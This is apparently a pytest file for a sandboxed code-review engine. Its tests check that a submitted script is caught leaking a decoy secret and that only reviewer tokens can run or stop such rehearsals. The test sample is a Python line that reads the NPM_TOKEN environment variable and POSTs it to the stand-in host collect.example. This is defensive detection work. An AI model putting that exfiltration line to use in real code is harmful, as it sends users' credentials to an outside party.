"""A rehearsal over HTTP and the command line, in a real engine."""

from __future__ import annotations

import asyncio

import pytest

from engine.cli import main
from engine.cli.exit_codes import ExitCode
from engine.client.client import Client
from engine.common.errors import Problem
from engine.common.text import Untrusted
from engine.models import Draft, Language, Level, Scope
from tests.engine_process import EngineProcess

pytestmark = pytest.mark.sandbox
CODE = (
    "import os, urllib.request as u\nu.urlopen('http://collect.example/', os.environ['NPM_TOKEN'].encode())\n"
)
DRAFT = Draft(code=Untrusted(CODE), language=Language.PYTHON)


async def test_the_command_line_says_what_left(
    client: Client, engine: EngineProcess, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """First what was proven, then whom it contacted; the exit code says that a problem was found."""
    monkeypatch.setenv("PRATIQUE_HOME", str(engine.home))
    id = (await client.submit(DRAFT)).submission.id
    assert ExitCode.FAILED == await asyncio.to_thread(main, ["rehearse", id])
    first, *rest = capsys.readouterr().out.splitlines()
    assert "CONVICTED: a decoy left: npm token in POST to collect.example" == first
    assert any("collect.example:80 POST /" in line for line in rest)
    assert ExitCode.FAILED == await asyncio.to_thread(main, ["rehearse", "--last", id])
    assert Level.CRITICAL is (await client.case(id)).assessment.risk


async def test_only_reviewers_rehearse(client: Client, engine: EngineProcess) -> None:
    """A token that may submit does not; neither does one that may only look."""
    id = (await client.submit(DRAFT)).submission.id
    for scope in (Scope.SUBMIT, Scope.AUDIT):
        token = await client.tokens.create(f"t-{scope}", (scope,), days=1)
        async with Client(engine.socket, token=token.secret) as other:
            with pytest.raises(Problem, match=r"may not|no submission"):
                await other.reviews.rehearse(id)


async def test_only_what_goes_on_is_stopped(client: Client, engine: EngineProcess) -> None:
    """A submission that nobody rehearses is not found."""
    id = (await client.submit(DRAFT)).submission.id
    with pytest.raises(Problem, match="is not being rehearsed"):
        await client.reviews.stop_rehearsal(id)
